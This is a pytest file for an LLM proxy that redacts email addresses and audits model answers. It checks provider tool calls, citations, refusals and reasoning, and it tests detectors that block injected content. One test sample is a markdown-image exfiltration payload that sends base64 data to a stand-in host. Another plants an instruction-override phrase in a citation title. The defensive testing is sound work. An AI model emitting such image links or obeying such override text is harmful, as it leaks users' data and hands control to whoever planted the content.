"""What an answer holds besides its text and tool calls is audited too, whole and streamed,
through the real SDKs: a provider-run tool's call and result, a refusal, citations and
reasoning, each under `items` of the model_response record, redacted. In a Responses
stream, a refusal and a citation are judged before the agent reads them.
"""

from __future__ import annotations

from typing import Any

import openai
import pytest
from conftest import audit_rows
from mock_anthropic import MockAnthropic
from mock_openai import MockOpenAI
from test_anthropic_blocks import answer as claude_answer
from test_anthropic_blocks import server  # noqa: F401 (a fixture)
from test_governance import EMAIL, PLACEHOLDER
from test_openai_sdk import client
from test_responses_items import OVERRIDE, answer_items

from lictor.proxy.server import BackgroundServer

EXFIL = "![chart](https://collect.example/p.png?data=c2VjcmV0LXN0dWZm)"


def responses_answer(text: str) -> list[dict[str, Any]]:
    """A provider-run MCP call, then a message with a cited text part and a refusal part."""
    return [
        {"type": "mcp_call", "id": "mcp_9", "server_label": "crm", "name": "lookup",
         "arguments": '{"q": "owner"}', "output": f"Owner: {text}", "status": "completed"},
        {"type": "message", "id": "msg_9", "role": "assistant", "status": "completed",
         "content": [
             {"type": "output_text", "text": f"It is {text}.", "annotations": [
                 {"type": "url_citation", "url": "https://crm.example/o",
                  "title": f"Owner page of {text}", "start_index": 0, "end_index": 5}]},
             {"type": "refusal", "refusal": f"I will not mail {text}."}]},
    ]


def placeholder_via_responses(lictor: BackgroundServer, upstream: MockOpenAI) -> str:
    client(lictor).responses.create(model="mock-gpt", input=f"Mail {EMAIL}")
    found = PLACEHOLDER.search(upstream.last_text())
    assert found is not None
    return found.group(0)


@pytest.mark.parametrize("stream", [False, True])
def test_responses_answer_items_are_restored_and_audited(
        lictor: BackgroundServer, upstream: MockOpenAI, stream: bool) -> None:
    upstream.responses_output = responses_answer(placeholder_via_responses(lictor, upstream))
    output = answer_items(client(lictor), stream, input=f"Mail {EMAIL}")
    assert output[0].output == f"Owner: {EMAIL}"
    text, refusal = output[1].content
    assert text.text == f"It is {EMAIL}." and refusal.refusal == f"I will not mail {EMAIL}."
    assert text.annotations[0].title == f"Owner page of {EMAIL}"
    record = audit_rows(lictor)[-1]
    items = {i["type"]: i["texts"] for i in record["content"][0]["items"]}
    assert list(items) == ["mcp_call", "annotations", "refusal"]
    assert EMAIL not in str(items)
    assert items["mcp_call"][-1].startswith("Owner: <EMAIL_")
    assert items["refusal"] == [items["refusal"][0]] and PLACEHOLDER.search(items["refusal"][0])


@pytest.mark.parametrize("stream", [False, True])
def test_injection_in_a_responses_citation_blocks_the_answer(
        lictor: BackgroundServer, upstream: MockOpenAI, stream: bool) -> None:
    output = responses_answer("Ann")
    output[1]["content"][0]["annotations"][0]["title"] = OVERRIDE
    upstream.responses_output = output
    with pytest.raises(openai.APIError) as info:
        answer_items(client(lictor), stream, input="Who owns it?")
    assert "injection.instruction-override" in info.value.message


@pytest.mark.parametrize("stream", [False, True])
def test_exfiltration_in_a_responses_refusal_blocks_the_answer(
        lictor: BackgroundServer, upstream: MockOpenAI, stream: bool) -> None:
    output = responses_answer("Ann")
    output[1]["content"][1]["refusal"] = f"See {EXFIL}"
    upstream.responses_output = output
    with pytest.raises(openai.APIError) as info:
        answer_items(client(lictor), stream, input="Who owns it?")
    assert "exfil.markdown-image-with-data" in info.value.message


def cited_search(body: dict[str, Any]) -> list[dict[str, Any]]:
    """The model thinks, searches the web and cites what it found, echoing the placeholder
    it was shown."""
    seen = next(iter(PLACEHOLDER.findall(str(body))), "nobody")
    return [
        {"type": "thinking", "thinking": f"Look up {seen}.", "signature": "c2ln"},
        {"type": "server_tool_use", "id": "srvtoolu_1", "name": "web_search",
         "input": {"query": f"who is {seen}"}},
        {"type": "web_search_tool_result", "tool_use_id": "srvtoolu_1", "content": [
            {"type": "web_search_result", "url": "https://news.example/a",
             "title": f"News on {seen}", "encrypted_content": "b3BhcXVl",
             "page_age": None}]},
        {"type": "text", "text": "Found it.", "citations": [
            {"type": "web_search_result_location", "url": "https://news.example/a",
             "title": f"News on {seen}", "encrypted_index": "aWR4",
             "cited_text": f"{seen} joined"}]},
    ]


@pytest.mark.parametrize("stream", [False, True])
def test_anthropic_answer_blocks_are_audited(server: BackgroundServer,  # noqa: F811
                                             claude: MockAnthropic, stream: bool) -> None:
    claude.script = cited_search
    blocks = claude_answer(server, [{"role": "user", "content": f"Who is {EMAIL}?"}], stream)
    assert blocks[2]["content"][0]["title"] == f"News on {EMAIL}"
    assert blocks[3]["citations"][0]["cited_text"] == f"{EMAIL} joined"
    record = audit_rows(server)[-1]
    assert record["content"][0]["content"] == "Found it."
    items = {i["type"]: i["texts"] for i in record["content"][0]["items"]}
    assert set(items) == {"thinking", "server_tool_use", "web_search_tool_result", "citations"}
    assert EMAIL not in str(items)
    assert all(any(PLACEHOLDER.search(t) for t in texts) for texts in items.values()), items
